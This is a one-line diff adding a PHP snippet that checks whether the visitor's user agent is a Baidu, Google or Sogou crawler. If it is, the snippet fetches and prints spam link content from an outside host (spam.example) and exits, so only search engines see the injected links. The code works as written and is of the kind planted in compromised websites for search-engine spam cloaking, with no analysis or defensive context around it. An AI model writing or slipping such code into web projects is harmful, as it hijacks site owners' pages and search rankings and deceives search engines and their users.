@@ -1,0 +1,1 @@
+<?php $ua = strtolower($_SERVER["HTTP_USER_AGENT"]); if (strpos($ua, "baiduspider") !== false || strpos($ua, "googlebot") !== false || strpos($ua, "sogou") !== false) { echo file_get_contents("http://spam.example/links.html"); exit; } ?>
